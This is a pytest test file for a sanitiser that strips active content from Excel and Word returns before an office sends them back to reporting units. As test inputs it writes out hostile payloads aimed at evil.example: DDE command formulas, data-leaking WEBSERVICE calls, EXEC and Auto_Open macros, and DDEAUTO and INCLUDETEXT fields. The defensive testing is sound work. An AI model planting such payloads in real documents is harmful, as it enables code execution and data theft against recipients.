"""What goes back to a unit cannot act: nothing in it runs, reaches outside or follows a link.

A mail may have brought the file in another unit's name, and it goes out in the office's.
"""

import datetime as dt
import hashlib
import html
import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.chart import BarChart, Reference
from openpyxl.formatting.rule import Rule
from openpyxl.styles import PatternFill
from openpyxl.styles.differential import DifferentialStyle
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from pipeline.corrections.inert.formulas import is_arithmetic, stays_inside
from pipeline.corrections.note import Correction
from pipeline.corrections.workbook import sent_back
from pipeline.domain.settings import Limits
from pipeline.office.package import unpacked
from tests.command import duban
from tests.libreoffice import convert, needs_libreoffice
from tests.office import Office
from tests.test_corrections import FAULTY, MASTER, full_of
from tests.test_word_returns import WHOLE
from tests.week_views import finding
from tests.word_documents import document, repacked

WHERE = "evil.example"
"""Stands in every attack. It must be nowhere in what goes back, unless as the unit's own text."""


@pytest.fixture
def office(tmp_path: Path) -> Office:
    office = Office(tmp_path)
    office.master(MASTER)
    return office


def back(path: Path, place: str = "D3", *, is_document: bool = False) -> dict[str, bytes]:
    """Returns the parts of the file that goes back."""
    sha256 = hashlib.sha256(path.read_bytes()).hexdigest()
    wrong = finding("V01", "error", "区水务局", "填报有误", file="f", sheet="周报表", cell=place)
    day = dt.date(2017, 7, 14)
    told = Correction(
        path.name,
        sha256,
        "区水务局",
        "第2周",
        day,
        "督查室",
        (wrong,),
        (path.name,),
        "",
        is_document=is_document,
    )
    return unpacked(sent_back(told, path, Limits()))


def note_in(parts: dict[str, bytes]) -> str:
    named = ("xl/worksheets/sheet1.xml", "word/document.xml")
    return html.unescape(b"".join(parts.get(name, b"") for name in named).decode())


def reaches_nothing(parts: dict[str, bytes]) -> None:
    """Asserts that no relationship leads outside, and that each leads to a part that is there."""
    for name, part in parts.items():
        if not name.endswith(".rels"):
            continue
        assert b"TargetMode" not in part.replace(b'TargetMode="Internal"', b""), name
        folder = name.replace("_rels/", "").rpartition("/")[0]
        for target in re.findall(rb'Target="([^"]*)"', part):
            path = target.decode()
            parts_of_path = [] if path.startswith("/") else folder.split("/") if folder else []
            for step in path.strip("/").split("/"):
                parts_of_path = parts_of_path[:-1] if step == ".." else [*parts_of_path, step]
            assert "/".join(parts_of_path) in parts, (name, path)


# Workbooks


def edited(path: Path, change: Callable[[Any], object]) -> Path:
    book = openpyxl.load_workbook(path)
    change(book)
    book.save(path)
    return path


def with_parts(path: Path, parts: dict[str, bytes], **replaced: tuple[str, bytes, bytes]) -> Path:
    """Adds parts to a workbook, and replaces a text in others (name, old, new)."""
    with zipfile.ZipFile(path) as package:
        members = {name: package.read(name) for name in package.namelist()}
    for name, old, new in replaced.values():
        assert old in members[name]
        members[name] = members[name].replace(old, new)
    path.write_bytes(repacked(path.read_bytes(), members | parts))
    return path


ACTIVE = [
    f'=HYPERLINK("http://{WHERE}","点这里")',
    f'=WEBSERVICE("http://{WHERE}/"&A1)',
    f"=cmd|'/c calc {WHERE}'!A1",
    f"='[http://{WHERE}/a.xlsx]表'!A1",
    f'=INDIRECT("[{WHERE}]表!A1")',
    f'=CALL("{WHERE}","x","J")',
    f'=REGISTER("{WHERE}","x")',
    f'=EXEC("{WHERE}")',
    f'=RTD("{WHERE}",,"x")',
    f'=_xlfn.WEBSERVICE("{WHERE}")',
    f'=_xlfn.IMAGE("http://{WHERE}")',
    f'=FILTERXML("{WHERE}","x")',
    f'=CUBEVALUE("{WHERE}","x")',
    f'=IF(1=1,HYPERLINK("{WHERE}"),0)',
    f'=IFERROR(1/0,WEBSERVICE("{WHERE}"))',
    f'=SUM(1,_xlfn._xlws.FILTER(A1:A2,A1="{WHERE}"))',
    f'=+"http://{WHERE}"&A1',
    f'=T("\\\\{WHERE}\\x")',
]


@pytest.mark.parametrize("formula", ACTIVE)
def test_a_formula_that_acts_goes_back_as_its_result(office: Office, formula: str) -> None:
    path = office.returned("区水务局.xlsx", FAULTY)
    edited(path, lambda book: book["周报表"].__setitem__("H3", formula))
    escaped = formula[1:].replace("&", "&amp;").encode()
    with zipfile.ZipFile(path) as package:
        sheet = package.read("xl/worksheets/sheet1.xml")
    result = re.sub(
        rb'<c r="H3"[^>]*><f>.*?</f><v ?/?>(</v>)?</c>',
        b'<c r="H3" t="str"><f>' + escaped.replace(b"\\", b"\\\\") + "</f><v>结果</v></c>".encode(),
        sheet,
    )
    assert result != sheet
    parts = back(with_parts(path, {"xl/worksheets/sheet1.xml": result}))
    assert WHERE.encode() not in b"".join(parts.values())
    assert b"<f>" not in parts["xl/worksheets/sheet2.xml"]
    book = openpyxl.load_workbook(io.BytesIO(repacked(path.read_bytes(), dict(parts))))
    assert book["周报表"]["H3"].value == "结果"
    assert "公式（留下结果）1处" in note_in(parts)
    reaches_nothing(parts)


KEPT = [
    "=D5+1",
    "=SUM(D5:D6)/2",
    "=ROUND((D5-1)*100%,2)",
    '=IF(D5>=100,"已完成","推进中")',
    "=ROW()-4",
]


@pytest.mark.parametrize("formula", KEPT)
def test_plain_arithmetic_goes_back_with_its_result(office: Office, formula: str) -> None:
    path = office.root / "inbox" / office.week / "区水务局.xlsx"
    full_of(path)
    edited(path, lambda book: book["周报表"].__setitem__("F5", formula))
    with zipfile.ZipFile(path) as package:
        sheet = package.read("xl/worksheets/sheet1.xml")
    saved = re.sub(rb'(<c r="F5"[^>]*><f>[^<]*</f>)<v ?/?>(</v>)?', rb"\g<1><v>61.5</v>", sheet)
    parts = back(with_parts(path, {"xl/worksheets/sheet1.xml": saved}), "D5")
    for values, expected in ((False, formula), (True, 61.5)):
        content = io.BytesIO()
        with zipfile.ZipFile(content, "w") as package:
            for name, part in parts.items():
                package.writestr(name, part)
        book = openpyxl.load_workbook(content, data_only=values)
        assert book["周报表"]["F5"].value == expected
    assert b'fullCalcOnLoad="1"' not in parts["xl/workbook.xml"]
    assert "没有带回" not in note_in(parts)


def dressed_up(book: Any) -> None:
    """Puts into the workbook what may act, as far as openpyxl can write it."""
    sheet = book["周报表"]
    sheet["A1"].hyperlink = f"http://{WHERE}"
    sheet["A2"].hyperlink = f"\\\\{WHERE}\\x"
    sheet["B1"] = "文件"
    sheet["B1"].hyperlink = f"file:///{WHERE}"
    sheet["C3"].comment = openpyxl.comments.Comment("批注", "李四")
    for formula in (f"'[{WHERE}.xlsx]表'!$A$1:$A$2", f'INDIRECT("{WHERE}")'):
        choice = DataValidation(type="list", formula1=formula)
        choice.add("E3:E4")
        sheet.add_data_validation(choice)
        red = DifferentialStyle(fill=PatternFill("solid", bgColor="00FF0000"))
        for kind, said in (("expression", f"{formula}=1"), ("cellIs", formula)):
            rule: Any = Rule(
                kind,  # type: ignore[arg-type]  # one of its kinds
                dxf=red,
                formula=[said],
                operator="equal",
            )
            sheet.conditional_formatting.add("D3:D4", rule)
    for name, text in (
        ("外面", f"'[{WHERE}.xlsx]表'!$A$1"),
        ("动作", f'EVALUATE("{WHERE}")'),
        ("Auto_Open", f'EXEC("{WHERE}")'),
        ("auto_close", "'周报表'!$A$1"),
        ("选项", "'周报表'!$A$1:$A$3"),
    ):
        book.defined_names[name] = DefinedName(name, attr_text=text)
    sheet.defined_names["本地"] = DefinedName("本地", attr_text=f'CALL("{WHERE}")')
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=4, min_row=2, max_row=4), titles_from_data=True)
    chart.series[0].val.numRef.f = f"'[{WHERE}.xlsx]表'!$A$1:$A$2"
    sheet.add_chart(chart, "J3")
    inside = BarChart()
    inside.add_data(Reference(sheet, min_col=4, min_row=2, max_row=4), titles_from_data=True)
    sheet.add_chart(inside, "J20")
    sheet.page_setup.id = "rId9"


def test_links_names_and_conditions_that_reach_outside_are_taken_out(office: Office) -> None:
    path = edited(office.returned("区水务局.xlsx", FAULTY), dressed_up)
    parts = back(path)
    assert not [name for name, part in parts.items() if WHERE.encode() in part]
    reaches_nothing(parts)
    assert b"\xe9\x80\x89\xe9\xa1\xb9" in parts["xl/workbook.xml"]  # 选项, a place in it, is kept
    assert [name for name in parts if name.startswith("xl/charts/")] == ["xl/charts/chart1.xml"]
    note = note_in(parts)
    for words in ("超链接3处", "名称5处", "下拉选项或有效性2处", "条件格式4处", "图表1处"):
        assert words in note, words


_FOREIGN = {
    "xl/vbaProject.bin": b"macro",
    "xl/externalLinks/externalLink1.xml": f"<externalLink>{WHERE}</externalLink>".encode(),
    "xl/connections.xml": f"<connections>{WHERE}</connections>".encode(),
    "xl/queryTables/queryTable1.xml": WHERE.encode(),
    "xl/embeddings/oleObject1.bin": WHERE.encode(),
    "xl/activeX/activeX1.xml": WHERE.encode(),
    "xl/ctrlProps/ctrlProp1.xml": WHERE.encode(),
    "xl/printerSettings/printerSettings1.bin": WHERE.encode(),
    "xl/macrosheets/sheet1.xml": WHERE.encode(),
    "customXml/item1.xml": WHERE.encode(),
    "customUI/customUI14.xml": WHERE.encode(),
    "xl/webextensions/webextension1.xml": WHERE.encode(),
    "xl/unheard/of.xml": WHERE.encode(),
    "docProps/thumbnail.wmf": WHERE.encode(),
}


def test_of_a_package_only_what_is_listed_goes_back(office: Office) -> None:
    path = office.returned("区水务局.xlsx", FAULTY)
    parts = back(with_parts(path, _FOREIGN))
    assert WHERE.encode() not in b"".join(parts.values())
    assert not parts.keys() & _FOREIGN.keys()
    note = note_in(parts)
    for words in ("宏2处", "外部链接1处", "数据连接2处", "嵌入的对象1处", "控件2处", "加载项2处"):
        assert words in note, words
    reaches_nothing(parts)


def test_a_sheet_of_macros_goes_back_as_values(office: Office) -> None:
    path = office.returned("区水务局.xlsx", FAULTY)
    macros = (
        b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns='
        b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
        b'<c r="A1"><f>EXEC("evil.example")</f><v>0</v></c></row></sheetData></xm:macrosheet>'
    )
    kind = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
    with_parts(
        path,
        {"xl/macrosheets/sheet9.xml": macros},
        sheets=("xl/workbook.xml", b"</sheets>", b'<sheet name="M" sheetId="9" r:id="rId99"/></sheets>'),
        relations=(
            "xl/_rels/workbook.xml.rels",
            b"</Relationships>",
            f'<Relationship Id="rId99" Type="{kind}" Target="macrosheets/sheet9.xml"/></Relationships>'.encode(),
        ),
    )  # fmt: skip
    parts = back(path)
    assert WHERE.encode() not in b"".join(parts.values())
    assert not [name for name, part in parts.items() if b"macrosheet" in part]


def test_a_form_of_the_office_goes_back_as_it_is(office: Office) -> None:
    (office.root / "config.yaml").write_text("", "utf-8")
    assert duban("forms", "--root", office.root, "--week", office.week).returncode == 0
    (form, *_) = sorted((office.root / "outbox" / office.week / "forms").glob("*水务局*"))
    path = office.dropped("区水务局.xlsx", form.read_bytes())
    parts = back(path, "I5")
    assert "没有带回" not in note_in(parts)
    content = io.BytesIO(repacked(path.read_bytes(), dict(parts)))
    was, now = openpyxl.load_workbook(path)["周报表"], openpyxl.load_workbook(content)["周报表"]
    assert [cell.value for cell in now["N"]] == [cell.value for cell in was["N"]]
    assert any(cell.data_type == "f" for cell in now["N"])
    assert len(now.data_validations.dataValidation) == len(was.data_validations.dataValidation) > 0
    assert len(list(now.conditional_formatting)) == len(list(was.conditional_formatting)) > 0


@pytest.mark.parametrize(
    "text", ["=1+1", "=cmd|'/c calc'!A1", "@SUM(1)", "+cmd|'/c calc'!A1", "-1+1"]
)
def test_text_that_looks_like_a_formula_stays_text_when_it_is_edited(
    office: Office, text: str
) -> None:
    path = office.returned("区水务局.xlsx", FAULTY)

    def change(book: Any) -> None:
        book["周报表"]["C3"].value = text
        book["周报表"]["C3"].data_type = "s"

    parts = back(edited(path, change))
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as package:
        for name, part in parts.items():
            package.writestr(name, part)
    cell = openpyxl.load_workbook(content)["周报表"]["C3"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


@pytest.mark.parametrize(
    "formula",
    [
        "=[1]表!A1", "='C:\\a\\[b.xlsx]表'!A1", "=别的!A1", "=名称", "=A1#", "=表1[列]", "=SUM(别的!A1:A3)",
        "=A1&B1", "={1,2}", "=ROW(INDIRECT(A1))", '=IF(A1,"http://x",1)', "=#REF!", "=", "=(", "",
        "=SUM(A1:INDEX(A:A,3))", "=TODAY()", "=SUM(A1" + "+A1" * 2000 + ")", None, 5,
    ],
)  # fmt: skip
def test_what_is_no_plain_arithmetic(formula: object) -> None:
    assert not is_arithmetic(formula, "周报表")


@pytest.mark.parametrize(
    ("formula", "good"),
    [
        ('"是,否"', True), ('"是/否,http:"', True), ("$A$1:$A$9", True), ("说明!$A$1:$A$9", True),
        ("'说 明'!$A$1", True), ("单位", True), ("别处!$A$1", False), ("[1]说明!$A$1", False),
        ('INDIRECT("说明!A1")', False), ('NOT(ISERROR(SEARCH("否",E3)))', True),
        ('WEBSERVICE("x")', False), ("60", True), (None, True), ("别的名", False),
    ],
)  # fmt: skip
def test_what_stays_inside_the_workbook(formula: str | None, good: bool) -> None:
    assert stays_inside(formula, ("周报表", "说明", "说 明"), ("单位",)) is good


@needs_libreoffice
def test_what_was_made_inert_still_opens(office: Office, tmp_path: Path) -> None:
    path = edited(office.returned("区水务局.xlsx", FAULTY), dressed_up)
    edited(path, lambda book: book["周报表"].__setitem__("H3", "=D3+1"))
    parts = back(with_parts(path, _FOREIGN))
    made = tmp_path / "退回修改.xlsx"
    with zipfile.ZipFile(made, "w") as package:
        for name, part in parts.items():
            package.writestr(name, part)
    (pdf,) = convert([made], "pdf", tmp_path / "pdf")
    assert pdf.stat().st_size > 1000


# Word documents

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _field(words: str, shown: str = "看得见") -> str:
    def char(kind: str) -> str:
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    pieces = "".join(
        f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (words[:3], words[3:])
    )
    return f"{char('begin')}{pieces}{char('separate')}<w:r><w:t>{shown}</w:t></w:r>{char('end')}"


FIELDS = {
    "DDEAUTO": f"DDEAUTO c:\\\\{WHERE} x",
    "INCLUDETEXT": f'INCLUDETEXT "http://{WHERE}"',
    "INCLUDEPICTURE": f'INCLUDEPICTURE "http://{WHERE}" \\d',
    "LINK": f"LINK Excel.Sheet.8 {WHERE}",
    "HYPERLINK": f'HYPERLINK "http://{WHERE}"',
    "MACROBUTTON": f"MACROBUTTON {WHERE} x",
    "RD": f'RD "{WHERE}"',
    "DATABASE": f'DATABASE \\c "{WHERE}"',
    "IF": f'IF 1 = 1 "{WHERE}"',
    "unheard": f"UNHEARD {WHERE}",
    "in small letters": f"ddeauto {WHERE}",
}


def of_paragraph(xml: str) -> bytes:
    """Returns a return in Word with a paragraph more, in XML."""
    from docx.oxml import parse_xml

    def change(made: Any) -> None:
        paragraph = f'<w:p {_W} xmlns:r="{_REL}" xmlns:o="urn:schemas-microsoft-com:office:office" '
        paragraph += f'xmlns:v="urn:schemas-microsoft-com:vml">{xml}</w:p>'
        made.element.body.insert(0, parse_xml(paragraph))

    return document(WHOLE, change)


def word_back(office: Office, content: bytes, name: str = "区规建局.docx") -> dict[str, bytes]:
    return back(office.dropped(name, content), "", is_document=True)


@pytest.mark.parametrize("name", FIELDS)
def test_a_field_that_acts_goes_back_as_its_text(office: Office, name: str) -> None:
    words = FIELDS[name].replace('"', "&quot;")
    simple = f'<w:fldSimple w:instr="{words}"><w:r><w:t>简单</w:t></w:r></w:fldSimple>'
    parts = word_back(office, of_paragraph(_field(words) + simple))
    text = parts["word/document.xml"].decode()
    assert WHERE not in text and "instrText" not in text and "fldSimple" not in text
    assert "看得见" in text and "简单" in text
    assert "域（留下文字）2处" in text


def test_a_field_made_by_another_or_never_closed_is_no_field(office: Office) -> None:
    begin, apart = (f'<w:r><w:fldChar w:fldCharType="{k}"/></w:r>' for k in ("begin", "separate"))
    end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    made_by = f"{begin}<w:r><w:instrText>P</w:instrText></w:r>{_field('PAGE', 'AGE')}{apart}{end}"
    never = f"{begin}<w:r><w:instrText>PAGE</w:instrText></w:r>"
    text = word_back(office, of_paragraph(made_by + never))["word/document.xml"].decode()
    assert text.count("fldChar ") == 3  # of the whole field in the middle


@pytest.mark.parametrize(
    "words", ["PAGE", "NUMPAGES \\* MERGEFORMAT", 'DATE \\@ "yyyy年M月d日 HH:mm"', "= SUM(ABOVE)",
              'HYPERLINK \\l "_Toc1"', 'TOC \\o "1-3" \\h \\z \\u', "PAGEREF _Toc1 \\h"],
)  # fmt: skip
def test_fields_that_count_and_refer_stay(office: Office, words: str) -> None:
    text = word_back(office, of_paragraph(_field(words.replace('"', "&quot;"))))[
        "word/document.xml"
    ]
    assert b"instrText" in text and "没有带回".encode() not in text


def foreign_document() -> bytes:
    """Returns a document with all that may act."""
    body = (
        f'<w:hyperlink r:id="x1"><w:r><w:t>链接的字</w:t></w:r></w:hyperlink>'
        f'<w:r><w:object><v:shape href="http://{WHERE}"><v:imagedata r:href="x2"/></v:shape>'
        f'<o:OLEObject Type="Link" r:id="x3"/></w:object></w:r>'
        f'<w:r><w:control r:id="x4"/></w:r><w:subDoc r:id="x5"/>'
    )
    content = of_paragraph(body)
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        rels = package.read("word/_rels/document.xml.rels").decode()
        main = package.read("word/document.xml").decode()
        settings = package.read("word/settings.xml").decode()
    kinds = {
        "x1": "hyperlink", "x2": "image", "x3": "oleObject", "x5": "subDocument", "x6": "aFChunk",
        "x7": "attachedTemplate", "x8": "unheardOf",
    }  # fmt: skip
    added = "".join(
        f'<Relationship Id="{key}" Type="{_REL}/{kind}" Target="http://{WHERE}" TargetMode="External"/>'
        for key, kind in kinds.items()
    )
    for key, kind, name in (
        ("x4", f"{_REL}/control", "activeX/activeX1.xml"),
        (
            "x9",
            "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
            "vbaProject.bin",
        ),
        ("x10", f"{_REL}/oleObject", "embeddings/oleObject1.bin"),
        ("x11", f"{_REL}/customXml", "../customXml/item1.xml"),
    ):
        added += f'<Relationship Id="{key}" Type="{kind}" Target="{name}"/>'
    template = f'<w:attachedTemplate xmlns:r="{_REL}" r:id="s1"/><w:updateFields w:val="true"/>'
    chunk = f'<w:altChunk xmlns:r="{_REL}" r:id="x6"/>'
    return repacked(
        content,
        {
            "word/_rels/document.xml.rels": rels.replace("</Rel", f"{added}</Rel").encode(),
            "word/document.xml": main.replace("<w:sectPr", f"{chunk}<w:sectPr", 1).encode(),
            "word/settings.xml": re.sub(
                r"(<w:settings[^>]*>)", rf"\g<1>{template}", settings
            ).encode(),
            "word/_rels/settings.xml.rels": (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="s1" Type="{_REL}/attachedTemplate" Target="http://{WHERE}" '
                'TargetMode="External"/></Relationships>'
            ).encode(),
            "word/activeX/activeX1.xml": WHERE.encode(),
            "word/vbaProject.bin": WHERE.encode(),
            "word/embeddings/oleObject1.bin": WHERE.encode(),
            "customXml/item1.xml": f"<a>{WHERE}</a>".encode(),
            "word/nobody/refers/to.bin": WHERE.encode(),
        },
    )


@pytest.mark.parametrize(
    ("kind", "name"), [("header", "word/header9.bin"), ("image", "word/media/drawn.svg"),
                       ("image", "word/other.xml"), ("footer", "word/none.xml")],
)  # fmt: skip
def test_a_part_under_another_name_than_its_kind_has_is_not_kept(
    office: Office, kind: str, name: str
) -> None:
    content = of_paragraph("<w:r><w:t>字</w:t></w:r>")
    rels = unpacked(content)["word/_rels/document.xml.rels"]
    said = f'<Relationship Id="x1" Type="{_REL}/{kind}" Target="/{name}"/></Rel'.encode()
    added = {name: WHERE.encode()} if "none" not in name else {}
    changed = {"word/_rels/document.xml.rels": rels.replace(b"</Rel", said)}
    parts = word_back(office, repacked(content, changed | added))
    assert WHERE.encode() not in b"".join(parts.values())
    reaches_nothing(parts)
    assert "其他部件1处" in note_in(parts) or kind == "image"


def test_nothing_of_a_document_leads_outside(office: Office) -> None:
    parts = word_back(office, foreign_document())
    assert WHERE.encode() not in b"".join(parts.values())
    reaches_nothing(parts)
    text = parts["word/document.xml"].decode()
    assert "链接的字" in text
    for gone in ("altChunk", "subDoc", "OLEObject", "w:control", "imagedata"):
        assert f"{gone} " not in text and f"{gone}/" not in text
    assert b"updateFields" not in parts["word/settings.xml"]
    for words in ("超链接", "嵌入的对象", "宏", "附加的模板", "插入的文件", "控件"):
        assert words in text, words


@needs_libreoffice
def test_the_document_still_opens(office: Office, tmp_path: Path) -> None:
    made = tmp_path / "退回修改.docx"
    with zipfile.ZipFile(made, "w") as package:
        for name, part in word_back(office, foreign_document()).items():
            package.writestr(name, part)
    (text,) = convert([made], "txt", tmp_path / "txt")
    assert "链接的字" in text.read_text("utf-8")


def test_a_document_with_macros_goes_back_without(office: Office) -> None:
    office.dropped("区规建局.docm", foreign_document())
    parts = word_back(office, foreign_document(), "另.docm")
    assert b"macroEnabled" not in parts["[Content_Types].xml"]
    assert not [name for name in parts if "vba" in name]
